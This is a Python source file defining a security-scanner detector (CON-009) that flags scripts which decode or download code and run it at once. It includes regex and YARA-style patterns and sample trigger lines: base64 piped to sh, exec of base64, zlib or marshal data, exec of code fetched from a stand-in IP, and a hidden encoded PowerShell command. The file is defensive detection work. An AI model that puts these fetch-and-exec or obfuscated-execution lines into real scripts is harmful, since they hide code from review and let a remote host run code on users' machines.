"""CON-009: a script that decodes or fetches code and runs it at once, so that nobody reads it before."""

from __future__ import annotations

from periderm.engines.content.judging import Detector, Kind
from periderm.model.detector import DetectorSpec, Example
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

DETECTOR = Detector(
    spec=DetectorSpec(
        id="CON-009",
        title=Text("Find a script that runs hidden code", "发现运行隐藏代码的脚本"),
        message=Text("Find a script that runs hidden code: {object}", "发现运行隐藏代码的脚本：{object}"),
        severity=Severity.HIGH,
        maturity=Maturity.INCUBATING,
        remediation=Text(
            "Decode it where nothing can happen and read it. Code that is needed lies in the repository in plain text.",
            "在隔离环境中解码并阅读其内容。真正需要的代码应以明文存放在代码库中。",
        ),
        techniques=("T1027", "T1140", "T1105"),
        fires=(
            Example(b"#!/bin/sh\necho d2hvYW1pCg==d2hvYW1pCg==d2hvYW1p | base64 -d | sh\n", "a shell's"),
            Example(b'eval "$(printf %s aWQKaWQKaWQKaWQKaWQKaWQK | base64 --decode)"\n', "by eval"),
            Example(b"import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n", "Python's"),
            Example(b"exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJw=')))", "packed too"),
            Example(b"import marshal\nexec(marshal.loads(b'c\\x00'))\n", "compiled"),
            Example(b"import urllib.request as u\nexec(u.urlopen('http://203.0.113.5/a').read())\n", "fetched and run"),
            Example(b"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())", "Node's"),
            Example(b'use MIME::Base64; eval(decode_base64("cHJpbnQ="));', "Perl's"),
            Example(b"powershell -nop -w hidden -enc " + b"SQBFAFgA" * 12, "PowerShell's"),
            Example(b"require 'base64'; eval(Base64.decode64('cHV0cyAx'))", "Ruby's"),
        ),
        quiet=(
            Example(b"#!/bin/sh\necho $CERT | base64 -d > /etc/ssl/cert.pem\n", "decodes a file"),
            Example(b"import base64\nkey = base64.b64decode(os.environ['KEY'])\n", "decodes a key"),
            Example(b"with open('x.py') as f:\n    exec(compile(f.read(), 'x.py', 'exec'))\n", "runs a file"),
            Example(b"const page = Buffer.from(body, 'base64').toString(); evaluate(page)", "decodes a page"),
            Example(b"import marshal\ncode = marshal.loads(data)\n", "reads compiled code"),
            Example(b"#!/bin/sh\ncurl -fsSL https://example.com/install.sh -o install.sh && sh install.sh\n", "an installer"),
        ),
    ),
    quick=(
        (rb"base64\s+(-d|--decode)|xxd\s+-r|openssl\s+(enc|base64)", rb"\|\s*(sudo\s+)?(/bin/)?(ba|da|z|k)?sh\b"),
        (rb"\beval\s+[\"']?\$?[(`][^\n]*(base64\s+(-d|--decode)|xxd\s+-r|openssl\s+enc)",),
        (
            rb"\b(exec|eval)\s*\(",
            rb"b(64|32|85)decode\s*\(|a85decode|decodebytes|decompress\s*\(|fromhex\s*\(|marshal|urlopen|requests\s*\.\s*get|httpx",
        ),
        (rb"\b(exec|eval)\s*\(\s*(\w+\s*\.\s*)*get\s*\(\s*['\"]http",),
        (rb"(eval|Function|runInThisContext|runInNewContext)\s*\(\s*(Buffer|new\s+Buffer|atob|require)",),
        (rb"eval\s*\(?\s*(decode_base64|unpack|uncompress|Base64|Zlib|Net::HTTP|URI\.open|open)",),
        (rb"(powershell|pwsh)(\.exe)?\s", rb"-e(nc|ncodedcommand|c)?\s"),
        (rb"DownloadString",),
    ),
    kinds=(Kind.SCRIPT,),
    source=r"""
    strings:
        $sh_pipe = /(base64\s+(-d|-D|--decode)|xxd\s+-r(\s+-p)?|openssl\s+(enc|base64)\s[^\n|]{0,80}-d)[^\n|;]{0,80}(\|\s*(gunzip|gzip\s+-dc?|zcat|xz\s+-dc?|rev)\s*)?\|\s*(sudo\s+)?(\/bin\/)?(ba|da|z|k)?sh\b/
        $sh_eval = /\beval\s+["']?\$?[\(`][^\n]{0,4000}(base64\s+(-d|-D|--decode)|xxd\s+-r|openssl\s+enc\s[^\n]{0,40}-d)/
        $py_code = /\b(exec|eval)\s*\(\s*(compile\s*\(\s*)?((__import__\s*\(\s*['"]\w{1,12}['"]\s*\)|base64|zlib|codecs|gzip|lzma|bz2|bytes)\s*\.\s*|\s*)(b64decode|b32decode|b85decode|a85decode|decodebytes|standard_b64decode|urlsafe_b64decode|decompress|fromhex)\s*\(/
        $py_marshal = /\bexec\s*\(\s*(__import__\s*\(\s*['"]marshal['"]\s*\)|marshal)\s*\.\s*loads\s*\(/
        $py_fetch = /\b(exec|eval)\s*\(\s*(\w{1,20}\s*\.\s*){0,4}(urlopen\s*\(|requests\s*\.\s*get\s*\(|httpx\s*\.\s*get\s*\(|get\s*\(\s*['"]https?:)/
        $node = /\b(eval|Function|runInThisContext|runInNewContext)\s*\(\s*(Buffer\s*\.\s*from\s*\([^\n]{1,20000}['"](base64|hex)['"]|new\s+Buffer\s*\([^\n]{1,20000}['"](base64|hex)['"]|atob\s*\(\s*['"])/
        $node_fetch = /\beval\s*\(\s*require\s*\(\s*['"](https?|zlib|child_process)['"]\s*\)/
        $perl = /\beval\s*\(?\s*(decode_base64\s*\(|unpack\s*\(?\s*['"](u|H\*)['"]|uncompress\s*\()/
        $ruby = /\beval\s*\(?\s*(Base64\s*\.\s*(strict_)?decode64|Zlib::Inflate|Net::HTTP\.get|URI\.open|open\s*\(\s*['"]https?:)/
        $ps = /(powershell|pwsh)(\.exe)?\s[^\n]{0,120}-e(nc|ncodedcommand|c)?\s+['"]?[A-Za-z0-9+\/=]{60,}/ nocase
        $ps_fetch = /(IEX|Invoke-Expression)\s*\(?\s*\(?\s*New-Object\s+(System\.)?Net\.WebClient\s*\)?\s*\.\s*DownloadString/ nocase
    condition:
        filesize < 4MB and any of them
""",
)
